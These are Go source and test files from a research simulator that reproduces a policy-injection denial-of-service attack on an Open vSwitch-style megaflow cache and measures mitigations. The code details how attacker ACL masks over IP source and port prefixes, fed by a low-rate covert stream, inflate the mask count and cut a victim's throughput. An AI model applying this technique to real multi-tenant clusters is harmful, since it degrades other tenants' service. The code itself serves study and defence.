	res.FinalLimit = st.FlowLimit
	res.Overruns = st.Overruns
	res.LimitEvicted = st.TotalLimitEvicted
	return res, nil
}
