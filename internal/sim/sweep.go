package sim

import (
	"fmt"
	"time"

	"policyinject/internal/cache"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/metrics"
)

// SweepPoint is one row of the mask-count sweep (experiments E3/E5): the
// measured TSS lookup cost and the throughput it permits, at a given
// number of megaflow masks.
type SweepPoint struct {
	Masks        int
	CostPerPkt   time.Duration
	PPS          float64 // CPU-bound peak, min-size frames
	RelativePeak float64 // fraction of the 1-mask peak
}

// SweepResult is the full sweep.
type SweepResult struct {
	Points []SweepPoint
}

// Table renders the sweep like the paper's summary claims.
func (r *SweepResult) Table() *metrics.Table {
	t := &metrics.Table{Header: []string{"masks", "ns/lookup", "peak_pps", "relative_peak"}}
	for _, p := range r.Points {
		t.AddRow(p.Masks, float64(p.CostPerPkt.Nanoseconds()), p.PPS, p.RelativePeak)
	}
	return t
}

// MeasureMFC times raw megaflow-cache lookups of key k at the cache's
// current state.
func MeasureMFC(mfc *cache.Megaflow, k flow.Key, minSamples int) time.Duration {
	if minSamples < 16 {
		minSamples = 16
	}
	const minElapsed = 200 * time.Microsecond
	samples := 0
	var elapsed time.Duration
	for elapsed < minElapsed || samples < minSamples {
		start := time.Now()
		for i := 0; i < minSamples; i++ {
			mfc.Lookup(k, 0)
		}
		elapsed += time.Since(start)
		samples += minSamples
		if samples > 1<<22 {
			break
		}
	}
	return elapsed / time.Duration(samples)
}

// RunSweep measures TSS lookup cost at each requested mask count by
// populating a megaflow cache with synthetic attack masks (divergence
// prefixes over ip_src+tp_dst, exactly the shapes the attack mints) and a
// victim entry scanned last.
func RunSweep(maskCounts []int, samples int) (*SweepResult, error) {
	res := &SweepResult{}
	var peak float64
	for _, n := range maskCounts {
		if n < 1 || n > 32*16*16 {
			return nil, fmt.Errorf("sim: mask count %d out of range", n)
		}
		mfc := cache.NewMegaflow(cache.MegaflowConfig{})
		installAttackMasks(mfc, n-1)
		// The victim's entry: an exact 5-tuple-ish megaflow, inserted
		// last so hits scan the whole attacker prefix.
		// ip_dst keeps the victim's mask distinct from every attack mask
		// (the attack never unwildcards ip_dst), so it lands in a fresh
		// subtable appended at the end of the scan order.
		var victim flow.Match
		victim.Key.Set(flow.FieldIPSrc, 0xc0a80005)
		victim.Mask.SetExact(flow.FieldIPSrc)
		victim.Key.Set(flow.FieldIPDst, 0xac100002)
		victim.Mask.SetExact(flow.FieldIPDst)
		victim.Key.Set(flow.FieldTPDst, 5201)
		victim.Mask.SetExact(flow.FieldTPDst)
		if _, err := mfc.Insert(victim, cache.Verdict{Verdict: flowtable.Allow}, 0); err != nil {
			return nil, err
		}
		var k flow.Key
		k.Set(flow.FieldInPort, 1) // victim port != attacker port
		k.Set(flow.FieldIPSrc, 0xc0a80005)
		k.Set(flow.FieldIPDst, 0xac100002)
		k.Set(flow.FieldTPDst, 5201)
		if _, scanned, ok := mfc.Lookup(k, 0); !ok || scanned != mfc.NumMasks() {
			return nil, fmt.Errorf("sim: victim entry at position %d of %d", scanned, mfc.NumMasks())
		}

		cost := MeasureMFC(mfc, k, samples)
		pps := float64(time.Second) / float64(cost)
		if len(res.Points) == 0 {
			peak = pps
		}
		res.Points = append(res.Points, SweepPoint{
			Masks:        mfc.NumMasks(),
			CostPerPkt:   cost,
			PPS:          pps,
			RelativePeak: pps / peak,
		})
	}
	return res, nil
}

// installAttackMasks fills mfc with n distinct attack-shaped masks:
// divergence-prefix combinations over ip_src (32) and tp_dst (16), then
// tp_src (16) — the same mask population the real attack mints. Every
// mask carries the attacker port's exact in_port bits, exactly as the
// real megaflows do (the probed per-port default-deny subtable
// contributes them), which is what keeps attacker entries from ever
// matching the victim's traffic.
func installAttackMasks(mfc *cache.Megaflow, n int) {
	const attackerPort = 66
	count := 0
	deny := cache.Verdict{Verdict: flowtable.Deny}
	for d3 := 0; d3 < 16 && count < n; d3++ {
		for d1 := 0; d1 < 32 && count < n; d1++ {
			for d2 := 0; d2 < 16 && count < n; d2++ {
				var m flow.Match
				m.Key.Set(flow.FieldInPort, attackerPort)
				m.Mask.SetExact(flow.FieldInPort)
				m.Key.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(31-d1)))
				m.Mask.SetPrefix(flow.FieldIPSrc, d1+1)
				m.Key.Set(flow.FieldTPDst, uint64(80^(1<<uint(15-d2))))
				m.Mask.SetPrefix(flow.FieldTPDst, d2+1)
				if d3 > 0 {
					m.Key.Set(flow.FieldTPSrc, uint64(5201^(1<<uint(15-d3))))
					m.Mask.SetPrefix(flow.FieldTPSrc, d3+1)
				}
				m.Normalize()
				if _, err := mfc.Insert(m, deny, 0); err != nil {
					return
				}
				count++
			}
		}
	}
}
