package sim

import (
	"fmt"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/cache"
	"policyinject/internal/classifier"
	"policyinject/internal/cms"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/metrics"
	"policyinject/internal/revalidator"
	"policyinject/internal/traffic"
)

// Fig3Config parameterises the reproduction of paper Fig. 3: "OVS
// degradation in Kubernetes: attacker feeds her ACL with low-bandwidth
// packets at 60th sec".
type Fig3Config struct {
	Duration    int // seconds, default 150 (the paper's x-axis)
	AttackStart int // second the covert stream starts, default 60
	// Attack is the configured attack; default ThreeField (8192 masks,
	// the paper's full-blown DoS).
	Attack *attack.Attack
	// VictimGbps is the victim's offered load, default 0.95 (a saturated
	// GbE iperf stream, the paper's left axis scale).
	VictimGbps float64
	// VictimFlows is the number of parallel iperf connections, default 8.
	VictimFlows int
	// FrameLen is the victim frame size, default 1514.
	FrameLen int
	// CovertPPS overrides the covert stream rate; default is the rate
	// needed to cycle the full sequence every 2 seconds, which stays
	// within the paper's 1–2 Mbps at 64-byte frames.
	CovertPPS float64
	// EMCEntries configures the exact-match cache; the default -1
	// disables it, matching the OVS *kernel* datapath the paper's
	// Kubernetes demo exercises (the kernel datapath has no EMC; see
	// DESIGN.md). Set to +N for the userspace-datapath ablation.
	EMCEntries int
	// SMC enables the OVS 2.10 signature-match cache tier — the
	// post-paper hierarchy variant whose huge fingerprint table shields
	// warm flows from the mask scan.
	SMC bool
	// SortByHits enables the sorted-TSS mitigation in the megaflow cache.
	SortByHits bool
	// StagedPruning enables staged subtable lookups with signature/ports
	// pruning and EWMA scan ranking in the megaflow tier — the OVS
	// countermeasure whose curve cmd/figures plots next to vanilla and
	// SMC: the mask population still explodes, but the victim's sweep
	// skips the covert ladder, so throughput holds.
	StagedPruning bool
	// CostSamples is the per-tick measurement batch; default 64.
	CostSamples int
}

func (c *Fig3Config) setDefaults() {
	if c.Duration == 0 {
		c.Duration = 150
	}
	if c.AttackStart == 0 {
		c.AttackStart = 60
	}
	if c.Attack == nil {
		c.Attack = attack.ThreeField()
	}
	if c.VictimGbps == 0 {
		c.VictimGbps = 0.95
	}
	if c.VictimFlows == 0 {
		c.VictimFlows = 8
	}
	if c.FrameLen == 0 {
		c.FrameLen = 1514
	}
	if c.EMCEntries == 0 {
		c.EMCEntries = -1
	}
	if c.CostSamples == 0 {
		c.CostSamples = 64
	}
}

// Fig3Result carries the regenerated series and summary numbers.
type Fig3Result struct {
	Throughput *metrics.Series // victim Gbps per second
	Masks      *metrics.Series // megaflow mask count per second
	Megaflows  *metrics.Series // megaflow entry count per second

	MeanBefore float64 // mean victim Gbps before the attack
	MeanAfter  float64 // mean victim Gbps once the attack is resident
	PeakMasks  float64
}

// Degradation returns the fractional throughput loss (0..1).
func (r *Fig3Result) Degradation() float64 {
	if r.MeanBefore == 0 {
		return 0
	}
	return 1 - r.MeanAfter/r.MeanBefore
}

func (r *Fig3Result) String() string {
	return fmt.Sprintf("victim %.3f -> %.3f Gbps (%.0f%% degradation), peak %d megaflow masks",
		r.MeanBefore, r.MeanAfter, r.Degradation()*100, int(r.PeakMasks))
}

// RunFig3 reproduces the paper's Fig. 3 timeline on a two-tenant
// Kubernetes-style cluster: victim client/server pods and attacker pods
// share a hypervisor; at AttackStart the attacker installs its policy via
// the CMS and starts the covert stream; the victim's iperf throughput and
// the megaflow cache population are sampled every second.
func RunFig3(cfg Fig3Config) (*Fig3Result, error) {
	cfg.setDefaults()

	cluster := cms.NewCluster()
	cluster.SwitchOpts = []dataplane.Option{
		dataplane.WithEMC(cache.EMCConfig{Entries: cfg.EMCEntries}),
		dataplane.WithMegaflow(cache.MegaflowConfig{SortByHits: cfg.SortByHits}),
		dataplane.WithClassifier(classifier.Config{}),
	}
	if cfg.SMC {
		cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithSMC(cache.SMCConfig{}))
	}
	if cfg.StagedPruning {
		cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithStagedPruning())
	}
	// Cache maintenance is owned by the clock-driven revalidator actor; the
	// default config (one round per tick, 10-tick max-idle, generous dump
	// rate) reproduces the legacy inline sweep exactly on this timeline.
	rev := revalidator.New(revalidator.Config{})
	cluster.AttachRevalidator(rev)
	if _, err := cluster.AddNode("server-1"); err != nil {
		return nil, err
	}
	victimSrv, err := cluster.DeployPod("victim-corp", "iperf-server", "server-1")
	if err != nil {
		return nil, err
	}
	attackerPod, err := cluster.DeployPod("mallory", "probe", "server-1")
	if err != nil {
		return nil, err
	}
	sw := victimSrv.Node.Switch

	// The victim protects its own service with an ordinary policy: allow
	// its client subnet to the iperf port, deny the rest — exactly the
	// kind of microsegmentation the paper's intro motivates.
	victimClient := netip.MustParseAddr("10.10.0.5")
	if err := cluster.ApplyPolicy("victim-corp", "iperf-server", &cms.Policy{
		Name: "iperf-ingress",
		Ingress: []acl.Entry{{
			Src:     netip.PrefixFrom(victimClient, 24).Masked(),
			Proto:   6,
			DstPort: acl.Port(5201),
		}},
	}); err != nil {
		return nil, err
	}

	victim := traffic.NewVictim(traffic.VictimConfig{
		Src:      victimClient,
		Dst:      victimSrv.IP,
		Flows:    cfg.VictimFlows,
		InPort:   victimSrv.Port,
		FrameLen: cfg.FrameLen,
	})

	atk := cfg.Attack
	atk.DstIP = attackerPod.IP
	covertKeys, err := atk.Keys()
	if err != nil {
		return nil, err
	}
	for i := range covertKeys {
		covertKeys[i].Set(flow.FieldInPort, uint64(attackerPod.Port))
	}
	// The covert stream enters through the frame-first door like everything
	// else: the attack's wire frames (attack.Frames) replayed in bursts at
	// the attacker pod's port.
	covertFrames, err := atk.Frames()
	if err != nil {
		return nil, err
	}
	replay := traffic.NewReplayer(covertKeys).WithFrames(covertFrames, attackerPod.Port)
	covertPPS := cfg.CovertPPS
	if covertPPS == 0 {
		// Cycle the full sequence every 2.5 s: fast enough to beat the
		// 10 s idle timeout, and 1.7 Mbps at 64-byte frames for the
		// 8192-packet sequence — inside the paper's 1-2 Mbps budget.
		covertPPS = float64(len(covertKeys)) / 2.5
	}
	pacer := &traffic.Pacer{PPS: covertPPS}

	offeredPPS := PPSFor(cfg.VictimGbps, cfg.FrameLen)

	res := &Fig3Result{
		Throughput: &metrics.Series{Name: "victim_gbps"},
		Masks:      &metrics.Series{Name: "mf_masks"},
		Megaflows:  &metrics.Series{Name: "mf_entries"},
	}

	injected := false
	var covertBurst dataplane.FrameBatch
	var covertOut []dataplane.Decision
	for t := 0; t < cfg.Duration; t++ {
		now := uint64(t)
		// 1. Attacker: inject the policy just before streaming starts.
		if !injected && t >= cfg.AttackStart {
			theACL, err := atk.BuildACL()
			if err != nil {
				return nil, err
			}
			if err := cluster.ApplyPolicy("mallory", "probe", &cms.Policy{
				Name:                "innocuous-whitelist",
				Ingress:             theACL.Entries,
				AllowSrcPortFilters: true,
			}); err != nil {
				return nil, err
			}
			injected = true
		}
		// 2. Covert stream for this tick, as one wire burst.
		if injected {
			covertBurst.Reset()
			for i := pacer.Take(1); i > 0; i-- {
				covertBurst.Append(replay.NextFrame())
			}
			covertOut = sw.ProcessFrames(now, &covertBurst, covertOut)
		}
		// 3. Victim throughput: measure real per-packet cost now.
		cost := MeasureCost(sw, victim, now, cfg.CostSamples)
		pps := Throughput(cost, offeredPPS)
		res.Throughput.Add(float64(t), Gbps(pps, cfg.FrameLen))
		res.Masks.Add(float64(t), float64(sw.Megaflow().NumMasks()))
		res.Megaflows.Add(float64(t), float64(sw.Megaflow().Len()))
		// 4. Revalidator round (the actor decides whether one is due).
		rev.Tick(now)
	}

	res.MeanBefore = metrics.Summarize(res.Throughput.Window(float64(cfg.AttackStart)/2, float64(cfg.AttackStart))).Mean
	settle := cfg.AttackStart + 10
	if settle > cfg.Duration {
		settle = cfg.Duration - 1
	}
	res.MeanAfter = metrics.Summarize(res.Throughput.Window(float64(settle), float64(cfg.Duration))).Mean
	res.PeakMasks = metrics.Summarize(res.Masks.V).Max
	return res, nil
}
