package sim

import (
	"testing"

	"policyinject/internal/attack"
)

// quickFlowLimitConfig is the fast regime: the 512-mask attack against a
// dump rate slow enough that the post-attack dump overruns hard, and a
// floor below the attack's flow count so the staleness trim engages.
func quickFlowLimitConfig() FlowLimitConfig {
	return FlowLimitConfig{
		Duration:     48,
		AttackStart:  8,
		Attack:       attack.TwoField(),
		Interval:     4,
		Workers:      2,
		DumpRate:     16,
		MinFlowLimit: 256,
		CostSamples:  16,
		FrameLen:     128,
	}
}

// TestFlowLimitCollapsesUnderAttack is the acceptance assertion for the
// revalidator subsystem: under the covert stream the adaptive heuristic
// slashes the flow limit to its floor, and the limit cut triggers the
// staleness trim (eviction of resident flows, not just insert rejection).
func TestFlowLimitCollapsesUnderAttack(t *testing.T) {
	res, err := RunFlowLimit(quickFlowLimitConfig())
	if err != nil {
		t.Fatal(err)
	}
	if !res.Collapsed() {
		t.Fatalf("adaptive limit did not collapse: %v", res)
	}
	if res.FinalLimit != 256 {
		t.Errorf("limit should back off to the 256 floor, got %d", res.FinalLimit)
	}
	if res.Overruns == 0 {
		t.Error("no dump overruns recorded under the attack")
	}
	if res.LimitEvicted == 0 {
		t.Error("limit cut below the resident count trimmed nothing: the staleness sweep is not engaging")
	}
	// The thrash loop: trimmed covert flows reinstall, so the cache keeps
	// churning instead of settling once.
	lim := res.Timeline.Series("flow_limit")
	pre := lim.At(float64(4)) // before the attack lands
	if pre != 200000 {
		t.Errorf("pre-attack limit = %g, want the 200000 ceiling", pre)
	}
}

// TestFlowLimitHoldsFlatWhenFixed is the control run: with the heuristic
// disabled the limit never moves, overruns notwithstanding.
func TestFlowLimitHoldsFlatWhenFixed(t *testing.T) {
	cfg := quickFlowLimitConfig()
	cfg.FixedLimit = true
	res, err := RunFlowLimit(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if res.Collapsed() {
		t.Fatalf("fixed limit moved: %v", res)
	}
	for i, v := range res.Timeline.Series("flow_limit").V {
		if v != float64(res.InitialLimit) {
			t.Fatalf("fixed limit not flat at sample %d: %g", i, v)
		}
	}
	if res.Overruns == 0 {
		t.Error("the fixed run should still record overruns; only the response is disabled")
	}
	if res.LimitEvicted != 0 {
		t.Errorf("fixed limit trimmed %d flows; nothing should be over a 200000 limit", res.LimitEvicted)
	}
}
