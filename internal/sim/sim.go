// Package sim is the experiment engine: it drives a dataplane with the
// victim and attacker workloads on a deterministic tick clock, measures
// real per-packet processing cost of the actual Go implementation, and
// converts cost into achievable throughput.
//
// Methodology (see EXPERIMENTS.md): absolute Gbps of the paper's testbed
// cannot be reproduced on an arbitrary host, so the simulator measures the
// *real* cost of the real cache/classifier code and reports throughput as
// min(offered, budget/cost) for a single forwarding core. Shape — who
// wins, where the knee is, the relative collapse — is what the experiments
// assert.
package sim

import (
	"time"

	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/traffic"
)

// Pipeline is the surface the simulator drives; dataplane.Switch,
// dataplane.PMDPool and baseline.Switch all satisfy it. The wire burst is
// the primary interface: the simulator hands whole frame bursts to
// ProcessFrames, as a NIC rx queue would, so measured cost includes the
// parse stage; ProcessBatch remains the key-level hook for generators
// that have no wire rendering.
type Pipeline interface {
	ProcessKey(now uint64, k flow.Key) dataplane.Decision
	ProcessBatch(now uint64, keys []flow.Key, out []dataplane.Decision) []dataplane.Decision
	ProcessFrames(now uint64, fb *dataplane.FrameBatch, out []dataplane.Decision) []dataplane.Decision
}

// MeasureCost measures the per-packet processing cost of p for the
// generator's traffic at the pipeline's current state, by timing real
// burst calls over generated bursts. When gen is a traffic.FrameSource
// the bursts are raw wire frames through ProcessFrames — end-to-end cost,
// parsing included, the regime the paper's Figure 3 studies; otherwise
// pre-extracted keys through ProcessBatch. It adapts the sample count so
// each timed region is long enough to dominate clock granularity, runs
// several independent rounds, and returns the cheapest round — the
// minimum estimator, which discards descheduling noise that a mean would
// absorb (cheap pipelines are otherwise dominated by a single preemption
// inside the window). The calls mutate cache state exactly as the
// measured traffic would — that is intentional. Burst generation happens
// outside the timed region, so the cost is the pipeline's alone.
func MeasureCost(p Pipeline, gen traffic.Generator, now uint64, minSamples int) time.Duration {
	if minSamples < 16 {
		minSamples = 16
	}
	fs, frameDriven := gen.(traffic.FrameSource)
	keys := make([]flow.Key, minSamples)
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	best := time.Duration(0)
	for round := 0; round < 3; round++ {
		const minElapsed = 100 * time.Microsecond
		samples := 0
		var elapsed time.Duration
		for elapsed < minElapsed || samples < minSamples {
			var start time.Time
			if frameDriven {
				fb.Reset()
				for i := 0; i < minSamples; i++ {
					fb.Append(fs.NextFrame())
				}
				start = time.Now()
				out = p.ProcessFrames(now, &fb, out)
			} else {
				for i := range keys {
					keys[i] = gen.Next()
				}
				start = time.Now()
				out = p.ProcessBatch(now, keys, out)
			}
			elapsed += time.Since(start)
			samples += minSamples
			if samples > 1<<20 {
				break // pathological clock; avoid spinning forever
			}
		}
		cost := elapsed / time.Duration(samples)
		if best == 0 || cost < best {
			best = cost
		}
	}
	return best
}

// Throughput computes achievable packets-per-second for a per-packet cost
// on one forwarding core, capped by the offered load.
func Throughput(cost time.Duration, offeredPPS float64) float64 {
	if cost <= 0 {
		return offeredPPS
	}
	capacity := float64(time.Second) / float64(cost)
	if capacity > offeredPPS {
		return offeredPPS
	}
	return capacity
}

// Gbps converts packets per second at a frame size to link throughput in
// gigabits per second (including the 20-byte Ethernet overhead of
// preamble+IFG, so 1514-byte frames max out just under line rate, as iperf
// reports do).
func Gbps(pps float64, frameLen int) float64 {
	return pps * float64(frameLen+20) * 8 / 1e9
}

// PPSFor returns the packet rate that fills the given bandwidth at a frame
// size — the offered load for a "1 Gbps iperf stream".
func PPSFor(gbps float64, frameLen int) float64 {
	return gbps * 1e9 / (float64(frameLen+20) * 8)
}
