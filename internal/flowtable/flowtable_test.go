package flowtable

import (
	"math/rand"
	"testing"

	"policyinject/internal/flow"
)

func ruleIPSrc(prefix uint64, plen, prio int, v Verdict) Rule {
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, prefix)
	m.Mask.SetPrefix(flow.FieldIPSrc, plen)
	return Rule{Match: m, Priority: prio, Action: Action{Verdict: v}}
}

func keyIPSrc(ip uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldIPSrc, ip)
	return k
}

func TestLookupPriorityOrder(t *testing.T) {
	var tbl Table
	tbl.Insert(ruleIPSrc(0x0a000000, 8, 10, Allow)) // 10/8 allow
	tbl.Insert(Rule{Priority: 0})                   // catch-all deny

	if r := tbl.Lookup(keyIPSrc(0x0a636363)); r == nil || r.Action.Verdict != Allow {
		t.Fatalf("10.99.99.99: %v", r)
	}
	if r := tbl.Lookup(keyIPSrc(0x0b000000)); r == nil || r.Action.Verdict != Deny {
		t.Fatalf("11.0.0.0: %v", r)
	}
}

// The paper's overlap semantics: equal priority, first added wins.
func TestFirstAddedWins(t *testing.T) {
	var tbl Table
	first := tbl.Insert(ruleIPSrc(0x0a000000, 8, 5, Allow))
	tbl.Insert(ruleIPSrc(0x0a000000, 7, 5, Deny)) // overlaps, added later

	got := tbl.Lookup(keyIPSrc(0x0a000001))
	if got != first {
		t.Fatalf("lookup returned %v, want the first-added rule", got)
	}
}

func TestHigherPriorityBeatsEarlier(t *testing.T) {
	var tbl Table
	tbl.Insert(ruleIPSrc(0x0a000000, 8, 1, Allow))
	hi := tbl.Insert(ruleIPSrc(0x0a000000, 8, 9, Deny))
	if got := tbl.Lookup(keyIPSrc(0x0a000001)); got != hi {
		t.Fatalf("lookup = %v, want the high-priority rule", got)
	}
}

func TestLookupMiss(t *testing.T) {
	var tbl Table
	tbl.Insert(ruleIPSrc(0x0a000000, 8, 1, Allow))
	if got := tbl.Lookup(keyIPSrc(0x0b000000)); got != nil {
		t.Fatalf("lookup = %v, want nil", got)
	}
}

func TestRemove(t *testing.T) {
	var tbl Table
	r1 := tbl.Insert(ruleIPSrc(0x0a000000, 8, 1, Allow))
	r2 := tbl.Insert(Rule{Priority: 0})
	if !tbl.Remove(r1) {
		t.Fatal("Remove failed")
	}
	if tbl.Remove(r1) {
		t.Fatal("double Remove succeeded")
	}
	if tbl.Len() != 1 {
		t.Fatalf("Len = %d", tbl.Len())
	}
	if got := tbl.Lookup(keyIPSrc(0x0a000001)); got != r2 {
		t.Fatalf("lookup after remove = %v", got)
	}
}

func TestInsertNormalizes(t *testing.T) {
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a0a0a0a) // junk below the /8
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	var tbl Table
	r := tbl.Insert(Rule{Match: m})
	if got := r.Match.Key.Get(flow.FieldIPSrc); got != 0x0a000000 {
		t.Fatalf("stored key = %#x", got)
	}
	if err := tbl.Validate(); err != nil {
		t.Fatal(err)
	}
}

func TestValidateCatchesDisorder(t *testing.T) {
	var tbl Table
	tbl.Insert(Rule{Priority: 1})
	tbl.Insert(Rule{Priority: 2})
	if err := tbl.Validate(); err != nil {
		t.Fatalf("valid table failed validation: %v", err)
	}
	// Break the invariant by hand.
	tbl.rules[0], tbl.rules[1] = tbl.rules[1], tbl.rules[0]
	if err := tbl.Validate(); err == nil {
		t.Fatal("Validate missed a priority inversion")
	}
}

func TestStringDump(t *testing.T) {
	var tbl Table
	tbl.Insert(ruleIPSrc(0x0a000000, 8, 100, Allow))
	tbl.Insert(Rule{Priority: 0})
	want := "priority=100,ip_src=10.0.0.0/8 actions=allow\npriority=0,* actions=deny\n"
	if got := tbl.String(); got != want {
		t.Errorf("String() =\n%q\nwant\n%q", got, want)
	}
}

func TestActionString(t *testing.T) {
	if got := (Action{Verdict: Allow, OutPort: 3}).String(); got != "allow:output=3" {
		t.Errorf("Action.String() = %q", got)
	}
	if got := (Action{}).String(); got != "deny" {
		t.Errorf("zero Action.String() = %q", got)
	}
}

// Property: lookup result is invariant under insertion order for rules
// with distinct priorities.
func TestLookupOrderInvariance(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	for trial := 0; trial < 200; trial++ {
		n := 2 + rng.Intn(10)
		rules := make([]Rule, n)
		for i := range rules {
			plen := rng.Intn(33)
			rules[i] = ruleIPSrc(rng.Uint64()&0xffffffff, plen, i /* distinct prio */, Verdict(rng.Intn(2)))
		}
		var a, b Table
		for _, r := range rules {
			a.Insert(r)
		}
		perm := rng.Perm(n)
		for _, i := range perm {
			b.Insert(rules[i])
		}
		for probe := 0; probe < 50; probe++ {
			k := keyIPSrc(rng.Uint64() & 0xffffffff)
			ra, rb := a.Lookup(k), b.Lookup(k)
			switch {
			case ra == nil && rb == nil:
			case ra == nil || rb == nil:
				t.Fatalf("trial %d: nil disagreement", trial)
			case ra.Priority != rb.Priority || ra.Action != rb.Action:
				t.Fatalf("trial %d: %v vs %v", trial, ra, rb)
			}
		}
	}
}

func TestRulesReturnsEvaluationOrder(t *testing.T) {
	var tbl Table
	tbl.Insert(Rule{Priority: 1, Comment: "a"})
	tbl.Insert(Rule{Priority: 3, Comment: "b"})
	tbl.Insert(Rule{Priority: 3, Comment: "c"})
	got := tbl.Rules()
	want := []string{"b", "c", "a"}
	for i, r := range got {
		if r.Comment != want[i] {
			t.Fatalf("order = [%s %s %s], want %v", got[0].Comment, got[1].Comment, got[2].Comment, want)
		}
	}
}

func TestClear(t *testing.T) {
	var tbl Table
	tbl.Insert(Rule{})
	tbl.Clear()
	if tbl.Len() != 0 || tbl.Lookup(flow.Key{}) != nil {
		t.Fatal("Clear left rules behind")
	}
}
