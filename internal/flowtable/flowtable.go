// Package flowtable implements the OpenFlow-style wildcard rule table the
// slow path evaluates: an ordered set of (match, priority, action) rules.
//
// Per the paper's OVS model, rules may overlap; ties are broken by
// insertion order — "if multiple rules in the flow table match, the one
// added first will be applied". Lookup here is a deliberate straight linear
// scan: it is the semantic reference the optimised classifier (package
// classifier) is differential-tested against, and it doubles as the
// "flow-cache-less" ingredient of the baseline switch.
package flowtable

import (
	"fmt"
	"sort"
	"strings"

	"policyinject/internal/flow"
)

// Verdict is the policy decision a rule renders.
type Verdict uint8

const (
	// Deny drops the packet. The zero value is Deny so that an empty
	// action defaults closed, as a default-deny ACL should.
	Deny Verdict = iota
	// Allow forwards the packet (to Action.OutPort when set).
	Allow
)

func (v Verdict) String() string {
	if v == Allow {
		return "allow"
	}
	return "deny"
}

// Action is what happens to packets matching a rule.
type Action struct {
	Verdict Verdict
	OutPort uint32 // output port for Allow; 0 = normal forwarding
	// Recirc sends the packet through conntrack and re-classifies it
	// with ct_state set (the OVS "ct" action + recirculation). Verdict
	// is ignored for recirculated packets; the second pass decides.
	Recirc bool
	// Commit records the connection in the tracker when this (allow)
	// action fires — the OVS "ct(commit)" action.
	Commit bool
}

func (a Action) String() string {
	switch {
	case a.Recirc:
		return "ct(recirc)"
	case a.Verdict == Allow && a.Commit:
		return "allow:ct(commit)"
	case a.Verdict == Allow && a.OutPort != 0:
		return fmt.Sprintf("allow:output=%d", a.OutPort)
	default:
		return a.Verdict.String()
	}
}

// Rule is one wildcard-match entry.
type Rule struct {
	Match    flow.Match
	Priority int // higher wins; ties go to the earlier-installed rule
	Action   Action
	Comment  string // free-form provenance, e.g. the CMS policy name

	seq uint64 // insertion sequence, assigned by Table.Insert
}

// Seq returns the rule's insertion sequence number (0 before insertion).
func (r *Rule) Seq() uint64 { return r.seq }

func (r *Rule) String() string {
	return fmt.Sprintf("priority=%d,%s actions=%s", r.Priority, r.Match.String(), r.Action)
}

// less orders rules by decreasing priority, then increasing insertion
// sequence — the paper's first-added-wins tie-break.
func less(a, b *Rule) bool {
	if a.Priority != b.Priority {
		return a.Priority > b.Priority
	}
	return a.seq < b.seq
}

// Table is an ordered wildcard rule table. The zero Table is empty and
// ready to use. Table is not safe for concurrent mutation.
type Table struct {
	rules   []*Rule
	nextSeq uint64
}

// Insert adds a copy of r to the table and returns the stored rule. The
// match is normalised (key bits outside the mask cleared).
func (t *Table) Insert(r Rule) *Rule {
	r.Match.Normalize()
	t.nextSeq++
	r.seq = t.nextSeq
	stored := &r
	// Keep the slice sorted: binary search for the insertion point.
	i := sort.Search(len(t.rules), func(i int) bool { return !less(t.rules[i], stored) })
	t.rules = append(t.rules, nil)
	copy(t.rules[i+1:], t.rules[i:])
	t.rules[i] = stored
	return stored
}

// Remove deletes a rule previously returned by Insert, reporting whether it
// was present.
func (t *Table) Remove(r *Rule) bool {
	for i, have := range t.rules {
		if have == r {
			t.rules = append(t.rules[:i], t.rules[i+1:]...)
			return true
		}
	}
	return false
}

// Clear removes every rule.
func (t *Table) Clear() { t.rules = nil }

// Len returns the number of rules.
func (t *Table) Len() int { return len(t.rules) }

// Rules returns the rules in evaluation order (priority desc, then
// insertion order). The returned slice is a copy; the rules are shared.
func (t *Table) Rules() []*Rule {
	out := make([]*Rule, len(t.rules))
	copy(out, t.rules)
	return out
}

// Lookup returns the first rule matching k in evaluation order, or nil.
// This is the reference semantics of the table.
func (t *Table) Lookup(k flow.Key) *Rule {
	for _, r := range t.rules {
		if r.Match.Matches(k) {
			return r
		}
	}
	return nil
}

// String renders the table like `ovs-ofctl dump-flows`, one rule per line.
func (t *Table) String() string {
	var b strings.Builder
	for _, r := range t.rules {
		b.WriteString(r.String())
		b.WriteByte('\n')
	}
	return b.String()
}

// Validate checks structural invariants: normalised matches and strictly
// increasing sequence numbers within equal priority. It returns the first
// violation found, or nil. Used by tests and by the dpctl tool's
// self-check.
func (t *Table) Validate() error {
	for i, r := range t.rules {
		norm := r.Match
		norm.Normalize()
		if norm.Key != r.Match.Key {
			return fmt.Errorf("rule %d (%s): match not normalised", i, r)
		}
		if i > 0 && less(r, t.rules[i-1]) {
			return fmt.Errorf("rule %d (%s): order violated", i, r)
		}
	}
	return nil
}
