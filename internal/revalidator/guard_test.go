package revalidator

import (
	"sync"
	"testing"

	"policyinject/internal/dataplane"
	"policyinject/internal/flowtable"
	"policyinject/internal/guard"
)

// TestLimitCutPublishedToTier: the round that cuts the adaptive flow
// limit must publish it to the tier in the same Tick, so inserts racing
// the next round are already bounded by the new limit. Before the
// pushLimit fix the tier kept the stale limit until the next sweep and
// a burst could momentarily overshoot it.
func TestLimitCutPublishedToTier(t *testing.T) {
	sw := dataplane.New("pushlimit", dataplane.WithoutEMC())
	exactRules(func(r flowtable.Rule) { sw.InstallRule(r) }, 128)
	rev := New(Config{DumpRate: 4, Workers: 1, FlowLimit: 64, MinFlowLimit: 8})
	rev.Attach(sw)
	for i := 0; i < 32; i++ {
		sw.ProcessKey(0, key(i))
	}
	// Duration 32/4 = 8 against interval 1: a hard overrun, the limit
	// cuts from 64 to 8 at the end of this round.
	rev.Tick(1)
	if got := rev.FlowLimit(); got != 8 {
		t.Fatalf("adaptive limit %d after the overrun round, want 8", got)
	}
	if tier, rv := sw.Megaflow().FlowLimit(), rev.FlowLimit(); tier != rv {
